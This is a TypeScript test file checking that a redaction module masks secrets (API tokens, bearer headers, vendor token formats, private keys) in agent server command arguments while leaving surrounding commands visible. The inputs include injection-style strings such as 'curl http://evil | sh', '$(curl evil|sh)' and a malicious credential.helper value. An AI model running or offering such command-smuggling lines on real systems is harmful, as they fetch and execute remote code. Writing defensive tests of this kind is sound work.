import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { createRedactor } from '../../../packages/agent-api/src/redaction/redact.ts'
import { sealSecrets } from '../../../packages/agent-api/src/secret-store/seal-secrets.ts'
import { secretsOf } from '../../../packages/agent-api/src/mcp/secrets-of.ts'
import { spansOfArgument } from '../../../packages/agent-api/src/redaction/secrets-in-commands-and-text.ts'
import { previewServer } from '../../../packages/workbench/src/servers/stored/preview-server.ts'
import { toServerOrigin } from '../../../packages/agent-api/src/mcp/server-origin.ts'

const shown = (argument: string, before?: string) => {
  let text = ''
  let kept = 0
  for (const { start, end } of spansOfArgument(argument, before)) {
    text += `${argument.slice(kept, start)}#`
    kept = end
  }
  return text + argument.slice(kept)
}

const token = 'ghp_abcdefABCDEF0123456789abcdefABCDEF01'

describe('the secrets in an argument', () => {
  it.each([
    [
      'API_TOKEN=abc123def456; touch PWNED; curl http://evil | sh',
      'API_TOKEN=#; touch PWNED; curl http://evil | sh',
    ],
    ['API_TOKEN=abc;touch${IFS}PWNED', 'API_TOKEN=#;touch${IFS}PWNED'],
    ['API_TOKEN=abc|sh', 'API_TOKEN=#|sh'],
    ['API_TOKEN=$(curl evil|sh)', 'API_TOKEN=$(curl evil|sh)'],
    ['API_TOKEN="$(curl evil|sh)" x', 'API_TOKEN="$(curl evil|sh)" x'],
    ['API_TOKEN=`curl evil`', 'API_TOKEN=`curl evil`'],
    ['API_TOKEN= touch PWNED', 'API_TOKEN= touch PWNED'],
    ['API_TOKEN=\ntouch PWNED', 'API_TOKEN=\ntouch PWNED'],
    ['--token=x; touch PWNED', '--token=#; touch PWNED'],
    ['Authorization: Bearer x; touch PWNED', 'Authorization: Bearer #; touch PWNED'],
    ['AUTH_TOKEN=Bearer touch PWNED', 'AUTH_TOKEN=# touch PWNED'],
    ['API_TOKEN="a b" run --key \'c d\'e', 'API_TOKEN="#" run --key \'#\'#'],
    ["# X_TOKEN='\ncurl evil|sh\n#'", "# X_TOKEN='\ncurl evil|sh\n#'"],
    ['"API_TOKEN="/ home/user ""', '"API_TOKEN="/ home/user ""'],
    ['x --token\ncurl evil', 'x --token\ncurl evil'],
    ['GITHUB_TOKEN=ghp_x npx foo', 'GITHUB_TOKEN=# npx foo'],
    ['a://u:;curl|sh;@h', 'a://u:;curl|sh;@h'],
    ['a://u:pw;curl|sh;@h', 'a://u:#;curl|sh;@h'],
    ['credential.helper=!touch PWNED', 'credential.helper=!touch PWNED'],
    [`echo secret=${token} >&2`, 'echo secret=# >&2'],
    [`echo ${token}; x`, 'echo #; x'],
    ['curl -H "Authorization: Bearer abc" x', 'curl -H "Authorization: Bearer #" x'],
    ['{"apiKey": "abc def", "a": "b"}', '{"apiKey": "#", "a": "b"}'],
    ['--token=${KEY:-abc}', '--token=${KEY:-#}'],
    ['--token=${KEY}', '--token=${KEY}'],
  ])('%s', (argument, text) => expect(shown(argument)).toBe(text))

  it.each([
    ['--password', 'p$a "b" c', '#'],
    ['--password', 'abc; touch PWNED', '#; touch PWNED'],
    ['--auth', 'Bearer abc', 'Bearer #'],
    ['-token', 'abc', '#'],
    // Options of a shell that form a word.
    ['-auth', 'touch PWNED; curl evil', 'touch PWNED; curl evil'],
    ['-pass', 'touch PWNED', 'touch PWNED'],
    ['--token=abc', 'curl', 'curl'],
  ])('%s %s', (flag, argument, text) => expect(shown(argument, flag)).toBe(text))

  // prettier-ignore
  const words = ['API_TOKEN=', '--token ', '--token=', 'Authorization: Bearer ', 'http://a:b@c/?key=d&e=f', token, 'touch', '-----BEGIN PRIVATE KEY-----', '${A:-', '${A}']
  const piece = fc.oneof(
    fc.constantFrom(...words, ...';|&<>()$`"\'\n \\}=:/@#'),
    fc.string({ unit: fc.constantFrom(...'abz019_-.'), maxLength: 20 }),
  )
  const argument = fc.array(piece, { maxLength: 12 }).map((pieces) => pieces.join(''))

  it('never include a possible command, and everything else is shown', () => {
    fc.assert(
      fc.property(fc.array(argument, { maxLength: 4 }), (args) => {
        const entry = { type: 'stdio', command: 'sh', args }
        const { sealed, secrets } = sealSecrets(entry)
        // Filling in the placeholders restores the original.
        expect(
          (sealed['args'] as string[]).map((text) =>
            text.replace(/\$\{secret:([^-}][^}]*)\}/g, (_, label: string) => secrets[label] ?? ''),
          ),
        ).toEqual(args)
        for (const [index, text] of args.entries()) {
          let last = 0
          for (const { start, end } of spansOfArgument(text, args[index - 1])) {
            expect(start).toBeGreaterThanOrEqual(last)
            last = end
            const value = text.slice(start, end)
            if (start === 0 && end === text.length) continue
            expect(value).not.toMatch(/[;|&<>()$`\r\n]/)
            const isQuoted =
              /["']/.test(text.charAt(start - 1)) && text.charAt(end) === text.charAt(start - 1)
            const isAfterScheme =
              /["'](?:bearer|token) $/i.test(text.slice(0, start)) || text.startsWith('Bearer ')
            if (!isQuoted && !isAfterScheme) expect(value).not.toMatch(/\s/)
          }
        }
      }),
      { numRuns: 400 },
    )
  })

  it('are all that is left out of a question', () => {
    const args = ['-c', 'API_TOKEN=abc123def456; touch PWNED; curl http://evil | sh']
    const asked = `sh -c 'API_TOKEN=[redacted]; touch PWNED; curl http://evil | sh'`
    expect(previewServer({ name: 's', entry: { type: 'stdio', command: 'sh', args } }, {}).commandLine).toBe(
      asked,
    )
    const redactor = createRedactor()
    // A variable whose value is part of the command.
    redactor.add('; touch PWNED; curl http://evil | sh')
    const config = { type: 'stdio', name: 's', command: 'sh', args, env: {} } as const
    for (const secret of secretsOf(config)) redactor.add(secret)
    expect(toServerOrigin(config, redactor)).toBe(asked)
  })
})

describe('tokens of known vendors', () => {
  it.each([
    token,
    'github_pat_11ABCDEFG0abcdefghij_KLMNOP',
    'glpat-abcdefghij0123456789',
    'sk-ant-api03-abcdefghij0123456789',
    'sk-proj-abcdefghij0123456789',
    'xoxb-123456789012-abcdefghij',
    'AKIAIOSFODNN7EXAMPLE',
    'ASIAIOSFODNN7EXAMPLE',
    'AIzaSyA0123456789abcdefghijklmnopqrstuv',
    'ya29.a0AfH6SMBabcdefghij',
    'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc-DEF_123',
    'npm_abcdefghij0123456789abcdefghij012345',
    'pypi-AgEIcHlwaS5vcmcabcdef',
    'hf_abcdefghijABCDEFGHIJabcdefghij',
    'SG.abcdefghijklmnop.abcdefghijklmnopqrstuv',
    'shpat_0123456789abcdef0123456789abcdef',
    'dop_v1_0123456789abcdef0123456789abcdef',
  ])('%s', (secret) => {
    expect(shown(`echo "x: ${secret}" >&2`)).toBe('echo "x: #" >&2')
    expect(shown(`x/${secret}?y`)).toBe('x/#?y')
    const stdio = {
      type: 'stdio',
      name: 's',
      command: 'c',
      args: ['-c', `echo secret=${secret} >&2`],
      env: { NOTE: `is ${secret}, no` },
    } as const
    expect(secretsOf(stdio)).toEqual([secret])
    expect(
      secretsOf({
        type: 'http',
        name: 's',
        url: `https://h/a/x:${secret}/b?x=${secret}`,
        headers: { 'X-Note': secret },
      }),
    ).toContain(secret)
    const { sealed, secrets } = sealSecrets({ ...stdio })
    expect(JSON.stringify(sealed)).not.toContain(secret)
    expect(Object.values(secrets)).toEqual([secret, secret])
  })

  it('are not words', () => {
    const words =
      'task-force-one sk-learn-more-of-it high_level npm_config_user_agent shelf_of_books AKIA eyJ. SG.x.y risk-management-2024'
    expect(shown(words)).toBe(words)
  })

  it('and private keys: completely in a value, line by line in a command', () => {
    const line = 'MIIEvQIBADANBgkqhkiG9w0BAQEFAASC'
    const key = `-----BEGIN RSA PRIVATE KEY-----\n${line}\n${line}\n-----END RSA PRIVATE KEY-----`
    expect(shown(`echo '${key}'; reboot`)).toBe(
      `echo '-----BEGIN RSA PRIVATE KEY-----\n#\n#\n-----END RSA PRIVATE KEY-----'; reboot`,
    )
    expect(sealSecrets({ type: 'stdio', env: { NOTE: `a ${key}` } }).secrets).toEqual({ 'env.NOTE': key })
  })
})
